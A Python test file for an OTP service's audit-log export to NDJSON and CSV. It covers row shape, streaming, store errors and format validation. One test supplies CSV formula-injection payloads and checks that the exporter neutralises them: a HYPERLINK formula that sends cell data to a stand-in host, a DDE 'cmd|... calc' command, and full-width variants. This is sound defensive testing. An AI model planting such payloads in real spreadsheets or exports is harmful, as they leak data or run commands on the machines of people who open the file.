"""The audit as a file: whole, in pieces, and harmless in a spreadsheet."""

import csv
import dataclasses
import io
import json
from collections.abc import Iterator

import pytest

from otp_service.domain.audit import AuditEvent, AuditRecord, Outcome
from otp_service.domain.errors import InvalidRequestError, StoreUnavailableError
from otp_service.http_api.audit_answers import EVENT_MEMBERS
from otp_service.http_api.audit_export import ExportFormat, exported, read_format

RECORD = AuditRecord(
    event_id="07:1795248000123-0",
    at_ms=1_795_248_000_123,
    event=AuditEvent.ATTEMPT_REJECTED,
    outcome=Outcome.FAILURE,
    reason="wrong",
    phone_id="a" * 24,
    masked_phone="+1******0100",
    country="US",
    client_id="gas",
    ip="192.0.2.7",
    user_agent="Phone/1",
    request_id="r" * 22,
    http_request_id="h",
    message_id="",
    attempt_number=2,
    session_id="",
    chain="c" * 40,
)


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_a_line_of_ndjson_is_one_event():
    (line,) = "".join(exported([RECORD], ExportFormat.NDJSON)).splitlines()
    event = json.loads(line)
    assert tuple(event) == EVENT_MEMBERS
    assert event["time"] == "2026-11-21T08:00:00.123Z"
    assert (event["owasp"], event["attemptNumber"]) == ("authn_login_fail", 2)
    assert event["messageId"] is event["sessionId"] is None


def test_a_row_of_csv_is_one_event_under_the_same_names():
    text = "".join(exported([RECORD], ExportFormat.CSV))
    (row,) = rows_of(text)
    assert tuple(row) == EVENT_MEMBERS
    assert (row["event"], row["attemptNumber"], row["messageId"]) == ("attempt_rejected", "2", "")
    assert text.count("\r\n") == 2


@pytest.mark.parametrize(
    "said",
    [
        '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff201",
    ],
)
def test_what_a_spreadsheet_would_compute_begins_with_an_apostrophe(said):
    record = dataclasses.replace(RECORD, user_agent=said)
    (row,) = rows_of("".join(exported([record], ExportFormat.CSV)))
    assert row["userAgent"] == f"'{said}"


@pytest.mark.parametrize("said", ['a","=1+1', "a\r\n=1+1", "a;=1", '"', "a\tb", "é", "'=1"])
def test_nothing_that_is_said_begins_another_cell(said):
    record = dataclasses.replace(RECORD, user_agent=said)
    text = "".join(exported([record], ExportFormat.CSV))
    (row,) = rows_of(text)
    assert row["userAgent"] == said
    assert row["chain"] == "c" * 40
    for cell in next(csv.reader(io.StringIO(text, newline=""))):
        assert f'"{cell}"' in text, "every cell is quoted"


@pytest.mark.parametrize("format_", ExportFormat)
@pytest.mark.parametrize("count", [0, 1, 199, 200, 201, 1_000])
def test_a_file_of_any_length_has_every_event_once(format_, count):
    records = [dataclasses.replace(RECORD, event_id=f"07:{index}-0") for index in range(count)]
    text = "".join(exported(iter(records), format_))
    if format_ is ExportFormat.CSV:
        told = [row["eventId"] for row in rows_of(text)]
    else:
        told = [json.loads(line)["eventId"] for line in text.splitlines()]
    assert told == [record.event_id for record in records]


def test_pieces_are_made_as_they_are_asked_for():
    asked = []

    def records() -> Iterator[AuditRecord]:
        for index in range(10_000):
            asked.append(index)
            yield RECORD

    pieces = exported(records(), ExportFormat.NDJSON)
    next(pieces)
    assert len(asked) < 1_000


def test_a_store_that_is_away_is_an_error_before_a_file_is_begun():
    def records(*, away: bool) -> Iterator[AuditRecord]:
        if away:
            raise StoreUnavailableError
        yield RECORD

    assert next(exported(records(away=False), ExportFormat.CSV))
    with pytest.raises(StoreUnavailableError):
        exported(records(away=True), ExportFormat.CSV)


def test_a_format_that_does_not_exist_is_refused():
    assert read_format("csv") is ExportFormat.CSV
    with pytest.raises(InvalidRequestError, match="format must be one of: ndjson, csv"):
        read_format("xml")
